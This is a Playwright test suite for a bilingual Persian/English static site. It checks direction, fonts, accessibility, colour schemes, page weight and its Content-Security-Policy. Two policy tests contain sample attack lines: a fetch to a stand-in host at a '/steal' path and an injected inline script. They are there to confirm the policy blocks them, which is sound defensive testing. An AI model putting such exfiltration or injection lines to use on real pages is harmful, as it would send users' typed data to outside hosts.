"""Does the shell hold in a real browser: both languages and colour schemes, wide and narrow?"""

import gzip
import re
from collections.abc import Callable
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, ViewportSize, expect

from scripts.static_server import serve

type OpenPage = Callable[..., Page]

HOMES = ("", "en/")
PAGES = ("", "tools/retention/", "en/", "en/tools/retention/")
SCHEMES = ("light", "dark")
PHONE: ViewportSize = {"width": 360, "height": 740}
DESK: ViewportSize = {"width": 1280, "height": 900}
AXE = Path(__file__).parents[2] / "node_modules/axe-core/axe.min.js"
FONT = "assets/fonts/vazirmatn-fa.woff2"


def fetched(page: Page) -> list[str]:
    """What the page asked the host for."""
    names: list[str] = page.evaluate("performance.getEntriesByType('resource').map(entry => entry.name)")
    return names


def test_the_build_says_nothing(built: tuple[Path, str]) -> None:
    assert built[1] == ""


@pytest.mark.parametrize("path", PAGES)
def test_a_page_opens_without_any_trouble(page: Page, served: str, path: str) -> None:
    """No error, no refusal of the policy, no request that fails or leaves the origin: `page` looks for these."""
    page.goto(served + path, wait_until="networkidle")
    assert all(urlsplit(address).netloc == urlsplit(served).netloc for address in fetched(page))


@pytest.mark.parametrize(("path", "language", "direction"), [("", "fa", "rtl"), ("en/", "en", "ltr")])
def test_a_page_says_its_language_and_direction(
    page: Page, served: str, path: str, language: str, direction: str
) -> None:
    page.goto(served + path)
    expect(page.locator("html")).to_have_attribute("lang", language)
    expect(page.locator("body")).to_have_css("direction", direction)


def test_the_theme_speaks_persian_throughout(page: Page, served: str) -> None:
    """A key that our language file lacks would come out in the theme's English."""
    page.goto(served + "tools/retention/")
    spoken = page.evaluate("""[...document.querySelectorAll("[aria-label], [title], [placeholder]")]
      .filter((element) => !element.closest("[lang=en]"))
      .flatMap((element) => ["aria-label", "title", "placeholder"].map((name) => element.getAttribute(name)))
      .filter(Boolean).concat(Object.values(JSON.parse(document.getElementById("__config").textContent).translations))""")
    assert [words for words in spoken if not re.search(r"[\u0600-\u06ff]", words)] == []


@pytest.mark.parametrize("path", ["", "tools/retention/"])
def test_the_switch_leads_to_the_same_page_and_back(page: Page, served: str, path: str) -> None:
    page.goto(served + path)
    page.get_by_role("link", name="English", exact=True).click()
    expect(page).to_have_url(f"{served}en/{path}")
    page.get_by_role("link", name="فارسی", exact=True).click()
    expect(page).to_have_url(served + path)


def test_the_switch_keeps_the_fragment(page: Page, served: str) -> None:
    """A fragment is a place on the page, or what was typed into a tool."""
    page.goto(served + "#owners")
    page.get_by_role("link", name="English", exact=True).click()
    expect(page).to_have_url(served + "en/#owners")


def test_our_font_is_for_persian_pages_alone(page: Page, served: str) -> None:
    page.goto(served, wait_until="networkidle")
    assert served + FONT in fetched(page)
    assert page.evaluate("document.fonts.check('16px Vazirmatn', 'پیوند')")


def test_an_english_page_does_without_our_font(open_page: OpenPage, served: str) -> None:
    page = open_page(viewport=PHONE)
    page.goto(served + "en/", wait_until="networkidle")
    assert served + FONT not in fetched(page)


@pytest.mark.parametrize("path", PAGES)
@pytest.mark.parametrize("width", [320, 360, 768])
def test_a_page_never_scrolls_sideways(open_page: OpenPage, served: str, path: str, width: int) -> None:
    page = open_page(viewport={"width": width, "height": 740})
    page.goto(served + path)
    assert page.evaluate("document.scrollingElement.scrollWidth") == width


@pytest.mark.parametrize("path", HOMES)
@pytest.mark.parametrize("scheme", SCHEMES)
@pytest.mark.parametrize("viewport", [DESK, PHONE], ids=["wide", "narrow"])
def test_a_home_page_is_accessible(
    open_page: OpenPage, served: str, path: str, scheme: str, viewport: ViewportSize
) -> None:
    """axe-core finds nothing; it is run from outside the policy, which rightly refuses it."""
    page = open_page(viewport=viewport, color_scheme=scheme, bypass_csp=True)
    page.goto(served + path, wait_until="networkidle")
    page.add_script_tag(path=AXE)
    found = page.evaluate("axe.run().then((answer) => answer.violations.map((one) => [one.id, one.nodes[0].html]))")
    assert found == []


@pytest.mark.parametrize(("scheme", "side"), [("light", "above"), ("dark", "below")])
def test_the_page_follows_the_readers_colour_scheme(open_page: OpenPage, served: str, scheme: str, side: str) -> None:
    page = open_page(color_scheme=scheme)
    page.goto(served)
    lightness = page.evaluate("getComputedStyle(document.body).backgroundColor.match(/\\d+/g).slice(0, 3).map(Number)")
    assert ("below" if sum(lightness) < 3 * 128 else "above") == side


def test_the_reader_chooses_the_dark_scheme_and_it_stays(page: Page, served: str) -> None:
    """The theme's inline scripts run under the policy: the choice is there again before the page is painted."""
    page.goto(served)
    page.get_by_title("رفتن به حالت تیره").click()
    page.goto(served + "en/")
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")


@pytest.mark.parametrize("path", HOMES)
def test_letters_of_persian_keep_together_and_have_room(page: Page, served: str, path: str) -> None:
    page.goto(served + path)
    style = page.evaluate("""(() => { const style = getComputedStyle(document.querySelector(".lead"))
      return [style.letterSpacing, parseFloat(style.lineHeight) / parseFloat(style.fontSize)] })()""")
    assert style[0] in {"normal", "0px"}
    assert style[1] == pytest.approx(1.6 if path else 1.9, abs=0.01)


@pytest.mark.parametrize("path", HOMES)
def test_minus_and_per_cent_keep_their_side(page: Page, served: str, path: str) -> None:
    """A number alone in its element reads sign, digits, per cent from left to right, in either direction of text."""
    page.goto(served + path)
    places = page.evaluate("""(() => {
      const number = document.createElement("span")
      number.className = "num"
      number.textContent = "\u221212.5%"
      document.querySelector(".md-typeset p").append(" ", number, " ")
      return [...number.textContent].map((_, at) => {
        const range = document.createRange()
        range.setStart(number.firstChild, at)
        range.setEnd(number.firstChild, at + 1)
        return range.getBoundingClientRect().left
      })
    })()""")
    assert places == sorted(places)


def test_persian_digits_in_tables_are_equally_wide(page: Page, served: str) -> None:
    page.goto(served, wait_until="networkidle")
    widths = page.evaluate("""(() => {
      const table = document.createElement("table")
      table.innerHTML = "<tr><td><span>۱۱۱۱</span><td><span>۴۴۴۴</span>"
      document.querySelector(".md-typeset").append(table)
      return [...table.querySelectorAll("span")].map((cell) => cell.getBoundingClientRect().width)
    })()""")
    assert widths[0] == pytest.approx(widths[1], abs=0.1)


def test_nested_lists_count_in_persian(page: Page, served: str) -> None:
    page.goto(served)
    styles = page.evaluate("""(() => {
      document.querySelector(".md-typeset").insertAdjacentHTML("beforeend", "<ol><li>۱<ol><li id=inner>۲</ol></ol>")
      return getComputedStyle(document.getElementById("inner")).listStyleType
    })()""")
    assert styles == "persian"


def test_a_page_that_is_not_there_answers_in_persian_and_helps_in_english(
    site: Path, page: Page, troubles: list[str]
) -> None:
    """Served where it was built for: an error page may be shown at any depth, so its links name the whole path."""
    with serve(site, base="/") as url:
        page.goto(url + "en/tools/nothing/")
        expect(page.locator("html")).to_have_attribute("lang", "fa")
        expect(page.get_by_role("heading", level=1)).to_have_text("این صفحه پیدا نشد")
        assert [trouble for trouble in troubles if "404" not in trouble] == []
        troubles.clear()
        page.get_by_role("link", name="Go to the English home page").click()
        expect(page).to_have_url(url + "en/")


@pytest.mark.parametrize("path", ["", "tools/retention/"])
def test_a_persian_page_is_light_before_python(open_page: OpenPage, served: str, path: str) -> None:
    """At most 150 KB come over the line, font included, on a first visit; workers count as well."""
    page = open_page()
    page.goto(served + path, wait_until="networkidle")
    sizes: dict[str, int] = page.evaluate("""Object.fromEntries(["navigation", "resource"]
      .flatMap((kind) => performance.getEntriesByType(kind)).map((entry) => [entry.name, entry.encodedBodySize]))""")
    assert [name for name, size in sizes.items() if not size] == []
    assert sum(sizes.values()) <= 150_000


def test_no_source_map_and_no_foreign_search_language_is_shipped(site: Path) -> None:
    shipped = {file.name for file in site.rglob("*") if file.is_file()}
    assert not [name for name in shipped if name.endswith(".map")]
    assert {name for name in shipped if name.startswith("lunr")} == {"lunr.fa.min.js", "lunr.stemmer.support.min.js"}


def test_the_charset_is_told_within_the_first_kilobyte(site: Path) -> None:
    """Browsers look no further for it, and the policy stands before it."""
    for file in site.rglob("*.html"):
        assert b'<meta charset="utf-8">' in file.read_bytes()[:1024], file


def test_the_policy_is_the_first_word_of_every_head(site: Path) -> None:
    for file in site.rglob("*.html"):
        head = file.read_text("utf-8").partition("<head>")[2]
        assert head.lstrip().startswith('<meta http-equiv="Content-Security-Policy" content="default-src \'none\';'), (
            file
        )


def test_the_policy_stops_a_foreign_request(page: Page, served: str, troubles: list[str]) -> None:
    """What an owner types cannot be sent away, whatever script there is."""
    page.goto(served)
    refused = page.evaluate("fetch('https://peyvand.example/steal').then(() => false, () => true)")
    assert refused
    assert any("Content Security Policy" in trouble for trouble in troubles)
    troubles.clear()


def test_the_policy_stops_an_inline_script(page: Page, served: str, troubles: list[str]) -> None:
    page.goto(served)
    page.evaluate("""(() => {
      const script = document.createElement("script")
      try { script.textContent = "window.stolen = true" } catch { script.append("window.stolen = true") }
      document.body.append(script)
    })()""")
    assert page.evaluate("window.stolen") is None
    assert troubles
    troubles.clear()


def test_the_sitemap_is_packed_as_it_is(site: Path) -> None:
    assert gzip.decompress((site / "sitemap.xml.gz").read_bytes()) == (site / "sitemap.xml").read_bytes()


def test_a_wide_table_is_within_reach_of_the_keyboard(open_page: OpenPage, served: str) -> None:
    """While it scrolls; a table that fits is no stop on the way."""
    page = open_page(viewport=PHONE)
    page.goto(served)
    page.evaluate("""document.querySelector(".md-typeset").insertAdjacentHTML("beforeend",
      "<div class=md-typeset__scrollwrap id=wide><div style='width: 60rem'>۱</div></div>")""")
    page.set_viewport_size({"width": 350, "height": 740})
    expect(page.locator("#wide")).to_have_attribute("tabindex", "0")
    page.set_viewport_size({"width": 1900, "height": 900})
    expect(page.locator("#wide")).not_to_have_attribute("tabindex", "0")


def test_that_there_are_scripts_is_said_before_the_page_is_styled(page: Page, served: str) -> None:
    """Said later, all of it would be styled twice."""
    page.add_init_script("""new MutationObserver((_, watch) => {
      if (document.body) { window.said = document.documentElement.className; watch.disconnect() }
    }).observe(document, { childList: true, subtree: true })""")
    page.goto(served)
    assert page.evaluate("window.said") == "js js-focus-visible"


def test_without_the_themes_script_no_search_is_offered_that_finds_nothing(
    page: Page, served: str, troubles: list[str]
) -> None:
    page.route("**/bundle.*.js", lambda route: route.abort())
    page.goto(served)
    expect(page.locator(".md-search")).to_be_hidden()
    expect(page.locator("html")).to_have_class("no-js")
    troubles.clear()


@pytest.mark.parametrize("scheme", SCHEMES)
def test_scroll_bars_follow_the_chosen_colours(open_page: OpenPage, served: str, scheme: str) -> None:
    page = open_page(color_scheme=scheme)
    page.goto(served)
    expect(page.locator("html")).to_have_css("color-scheme", "dark" if scheme == "dark" else "normal")
